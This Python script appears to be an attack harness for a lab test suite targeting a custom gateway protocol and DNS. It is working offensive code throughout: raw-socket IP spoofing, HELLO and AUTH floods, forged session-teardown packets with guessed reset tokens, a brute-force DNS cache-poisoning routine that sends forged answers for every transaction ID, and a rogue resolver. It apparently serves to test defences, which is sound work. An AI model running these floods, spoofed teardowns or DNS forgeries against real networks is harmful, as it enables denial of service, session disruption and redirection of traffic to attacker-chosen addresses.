#!/usr/bin/env python3
"""Control-plane and DNS attacks for the lab (test/attack/control-*.test.ts), from the attacker's
namespace. Raw sockets (IP_HDRINCL) for spoofed sources; nothing but the standard library.
Every mode is bounded in time or count and prints one JSON line with what it did.

  hello-spoof GGR PORT COUNT SECONDS FIRST_SRC NSRC   HELLOs from NSRC spoofed addresses FIRST_SRC.. (same /24)
  auth-flood  GGR PORT COUNT SECONDS                  AUTHs with random user ids, cookies from our own address
  teardown    GGR GPORT DST DPORT SID_HEX SECONDS RATE  forged unknown-session (authKind 0 and 2) from GGR:GPORT
  dns-forge   SRC DST DPORT REAL_ID NAME OTHER_NAME ADDR forged answers from SRC:53 (every id but REAL_ID for NAME,
                                                      every id for OTHER_NAME), A = ADDR
  dns-serve   ADDR SECONDS                            a resolver on ADDR:53 answering every A query with ADDR
  dns-query   SERVER SPORT ID NAME SECONDS            one query with this id from this port; prints the answer or TIMEOUT
"""
import json, os, random, socket, struct, sys, time

VERSION = 2


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def udp_ip(src, sport, dst, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + udp


def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return s


def paced(count, seconds):
    """Yields i for i in range(count), spread evenly over `seconds`."""
    t0 = time.monotonic()
    for i in range(count):
        due = t0 + seconds * i / count
        d = due - time.monotonic()
        if d > 0:
            time.sleep(d)
        yield i


def hello():
    return b"GS" + bytes([VERSION, 0x01]) + os.urandom(16) + bytes(108)


def hello_spoof(ggr, port, count, seconds, first, nsrc):
    base = first.rsplit(".", 1)
    srcs = ["%s.%d" % (base[0], int(base[1]) + k) for k in range(nsrc)]
    s, sent = raw(), 0
    for i in paced(count, seconds):
        try:
            s.sendto(udp_ip(srcs[i % nsrc], 1024 + random.getrandbits(15), ggr, port, hello()), (ggr, 0))
            sent += 1
        except OSError:
            pass
    return {"mode": "hello-spoof", "sent": sent, "sources": nsrc}


def auth_flood(ggr, port, count, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.0)
    s.connect((ggr, port))
    cookie, cookies, sent, answers = None, 0, 0, {}

    def drain():
        nonlocal cookie, cookies
        while True:
            try:
                d = s.recv(2000)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                return
            if len(d) == 72 and d[3] == 0x02:
                cookie, cookies = d[4:72], cookies + 1
            elif len(d) >= 22 and d[3] == 0x05:
                r = struct.unpack("!H", d[20:22])[0]
                answers[r] = answers.get(r, 0) + 1

    # The first cookie before the flood starts, so that every paced slot carries an AUTH.
    deadline = time.time() + 5
    while cookie is None and time.time() < deadline:
        s.send(hello())
        time.sleep(0.05)
        drain()
    for i in paced(count, seconds):
        if i % 200 == 0:
            s.send(hello())  # a fresh cookie now and then (each carries only a few AUTHs)
        drain()
        if cookie is None:
            continue
        en_nonce, ctime, ck = cookie[0:16], cookie[16:20], cookie[20:36]
        user = ("u%x" % random.getrandbits(40)).encode()
        auth = (b"GS" + bytes([VERSION, 0x03]) + en_nonce + ctime + ck + struct.pack("!Q", int(time.time() * 1000))
                + os.urandom(32) + struct.pack("!I", 1) + bytes([len(user)]) + user + b"\x05sales" + os.urandom(32))
        try:
            s.send(auth)
            sent += 1
        except OSError:
            pass
    time.sleep(0.5)
    drain()
    return {"mode": "auth-flood", "sent": sent, "cookies": cookies, "answers": answers}


def teardown(ggr, gport, dst, dport, sid_hex, seconds, rate):
    sid = bytes.fromhex(sid_hex)
    s, sent = raw(), 0
    n = int(seconds * rate)
    for i in paced(n, seconds):
        kind = i % 2  # authKind 0 (no tag) and 2 (a guessed reset token)
        tag = bytes(16) if kind == 0 else os.urandom(16)
        m = b"GS" + bytes([VERSION, 0x05]) + sid + bytes(8) + struct.pack("!H", 8) + b"\x00" + bytes([kind * 2]) + tag
        s.sendto(udp_ip(ggr, gport, dst, dport, m), (dst, 0))
        sent += 1
    return {"mode": "teardown", "sent": sent}


def qname(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"


def dns_answer(id_, name, addr):
    q = qname(name) + struct.pack("!HH", 1, 1)
    a = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
    return struct.pack("!HHHHHH", id_, 0x8180, 1, 1, 0, 0) + q + a


def dns_forge(src, dst, dport, real_id, name, other, addr):
    s, sent = raw(), 0
    for id_ in range(65536):
        for n in (name, other):
            if n == name and id_ == real_id:
                continue
            s.sendto(udp_ip(src, 53, dst, dport, dns_answer(id_, n, addr)), (dst, 0))
            sent += 1
    return {"mode": "dns-forge", "sent": sent}


def dns_serve(addr, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    s.settimeout(0.2)
    print(json.dumps({"listening": addr}), flush=True)
    end, n = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        try:
            d, a = s.recvfrom(2000)
        except socket.timeout:
            continue
        if len(d) < 12:
            continue
        qend = 12
        while qend < len(d) and d[qend]:
            qend += d[qend] + 1
        q = d[12:qend + 5]
        ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(addr)
        s.sendto(d[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q + ans, a)
        n += 1
    return {"mode": "dns-serve", "answered": n}


def dns_query(server, sport, id_, name, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", sport))
    s.settimeout(seconds)
    s.sendto(struct.pack("!HHHHHH", id_, 0x0100, 1, 0, 0, 0) + qname(name) + struct.pack("!HH", 1, 1), (server, 53))
    print(json.dumps({"sent": True}), flush=True)
    try:
        d, a = s.recvfrom(2000)
        return {"mode": "dns-query", "answer": d.hex(), "from": "%s:%d" % a}
    except socket.timeout:
        return {"mode": "dns-query", "answer": None}


if __name__ == "__main__":
    m, a = sys.argv[1], sys.argv[2:]
    if m == "hello-spoof":
        r = hello_spoof(a[0], int(a[1]), int(a[2]), float(a[3]), a[4], int(a[5]))
    elif m == "auth-flood":
        r = auth_flood(a[0], int(a[1]), int(a[2]), float(a[3]))
    elif m == "teardown":
        r = teardown(a[0], int(a[1]), a[2], int(a[3]), a[4], float(a[5]), float(a[6]))
    elif m == "dns-forge":
        r = dns_forge(a[0], a[1], int(a[2]), int(a[3]), a[4], a[5], a[6])
    elif m == "dns-serve":
        r = dns_serve(a[0], float(a[1]))
    elif m == "dns-query":
        r = dns_query(a[0], int(a[1]), int(a[2]), a[3], float(a[4]))
    else:
        sys.exit("unknown mode " + m)
    print(json.dumps(r), flush=True)
